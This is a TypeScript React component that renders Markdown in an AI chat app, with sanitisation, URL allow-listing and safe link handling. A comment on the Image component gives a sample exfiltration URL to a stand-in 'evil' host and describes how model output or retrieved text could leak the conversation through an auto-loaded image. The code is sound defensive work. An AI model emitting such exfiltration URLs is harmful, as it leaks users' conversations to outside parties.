import type { CitationSpan } from '@syfthub/client';
import type { Element } from 'hast';
import bash from 'highlight.js/lib/languages/bash';
import go from 'highlight.js/lib/languages/go';
import javascript from 'highlight.js/lib/languages/javascript';
import json from 'highlight.js/lib/languages/json';
import python from 'highlight.js/lib/languages/python';
import rust from 'highlight.js/lib/languages/rust';
import sql from 'highlight.js/lib/languages/sql';
import typescript from 'highlight.js/lib/languages/typescript';
import yaml from 'highlight.js/lib/languages/yaml';
import { type ComponentProps, memo, useMemo } from 'react';
import ReactMarkdown, { type Components, type Options } from 'react-markdown';
import rehypeHighlight from 'rehype-highlight';
import rehypeSanitize from 'rehype-sanitize';
import remarkBreaks from 'remark-breaks';
import remarkGfm from 'remark-gfm';
import { CitationBadges, CitationSourcesContext, type CitedSource } from '../chat/SourceCard';
import { remarkCitations, remarkShiftHeadings } from './remarkPlugins';
import { rehypeRawAsText, safeUrlTransform, sanitizeSchema } from './safety';

type PluggableList = NonNullable<Options['remarkPlugins']>;

const LANGUAGES = { bash, go, javascript, json, python, rust, sql, typescript, yaml };

export interface MarkdownProps {
  children: string;
  /** READMEs shift headings so the page keeps one `h1`. */
  shiftHeadings?: boolean;
  /** Syntax highlighting; the chat turns it on only once an answer is complete (web.md §6.4). */
  highlight?: boolean;
  citations?: { spans: CitationSpan[]; sources: CitedSource[] };
  className?: string;
}

function isExternal(href: string): boolean {
  try {
    return new URL(href, window.location.href).origin !== window.location.origin;
  } catch {
    return false;
  }
}

function Anchor({ node: _node, href, children, ...rest }: ComponentProps<'a'> & { node?: Element }) {
  if (!href) return <span>{children}</span>;
  const external = /^https?:/i.test(href) && isExternal(href);
  return (
    <a href={href} {...rest} {...(external ? { target: '_blank', rel: 'noopener noreferrer nofollow' } : {})}>
      {children}
    </a>
  );
}

const INLINE_IMAGE = /^data:image\//i;

function imageHost(src: string): string {
  try {
    return new URL(src, window.location.href).host;
  } catch {
    return '';
  }
}

/**
 * Only images embedded in the text (`data:image/…`) are drawn. Any other image is a link the reader may open: text
 * from a model or a retrieved document could otherwise make the browser fetch `https://evil/?d=<conversation>` with
 * no click (issue 19 defect 9), and the CSP's `img-src 'self' data:` would block it anyway. READMEs and bios follow
 * the same rule, being text from other people too.
 */
function Image({ node: _node, src, alt, title }: ComponentProps<'img'> & { node?: Element }) {
  if (!src) return alt ? <span>{alt}</span> : null;
  if (INLINE_IMAGE.test(src)) {
    return <img src={src} alt={alt ?? ''} title={title} referrerPolicy="no-referrer" loading="lazy" />;
  }
  const host = imageHost(src);
  return (
    <a
      className="md-image-link"
      href={src}
      target="_blank"
      rel="noopener noreferrer nofollow"
      referrerPolicy="no-referrer"
      title={title ?? src}
    >
      {`Image: ${alt || 'untitled'}${host ? ` (${host})` : ''}`}
    </a>
  );
}

function Sup({ node, children, ...rest }: ComponentProps<'sup'> & { node?: Element }) {
  const cite = node?.properties?.dataCite;
  if (typeof cite === 'string' && cite !== '') {
    return <CitationBadges indices={cite.split(',').map(Number)} />;
  }
  return <sup {...rest}>{children}</sup>;
}

function Table({ node: _node, children, ...rest }: ComponentProps<'table'> & { node?: Element }) {
  return (
    <div className="table-scroll">
      <table {...rest}>{children}</table>
    </div>
  );
}

const COMPONENTS: Components = { a: Anchor, img: Image, sup: Sup, table: Table };

/**
 * The one Markdown renderer of the app (web.md §7): GFM and line breaks, raw HTML shown as text, a sanitiser on
 * the resulting tree, an allow-list for URLs, and highlighting that produces elements rather than HTML strings.
 */
function MarkdownView({
  children,
  shiftHeadings = false,
  highlight = true,
  citations,
  className,
}: MarkdownProps) {
  const remarkPlugins = useMemo<PluggableList>(() => {
    const plugins: PluggableList = [remarkGfm, remarkBreaks];
    if (shiftHeadings) plugins.push(remarkShiftHeadings);
    if (citations && citations.spans.length > 0) plugins.push([remarkCitations, { spans: citations.spans }]);
    return plugins;
  }, [shiftHeadings, citations]);
  const rehypePlugins = useMemo<PluggableList>(() => {
    const plugins: PluggableList = [rehypeRawAsText, [rehypeSanitize, sanitizeSchema]];
    if (highlight) plugins.push([rehypeHighlight, { languages: LANGUAGES, detect: false }]);
    return plugins;
  }, [highlight]);
  return (
    <CitationSourcesContext.Provider value={citations?.sources ?? []}>
      <div className={`markdown ${className ?? ''}`}>
        <ReactMarkdown
          remarkPlugins={remarkPlugins}
          rehypePlugins={rehypePlugins}
          urlTransform={safeUrlTransform}
          components={COMPONENTS}
        >
          {children}
        </ReactMarkdown>
      </div>
    </CitationSourcesContext.Provider>
  );
}

const Markdown = memo(MarkdownView);
export default Markdown;
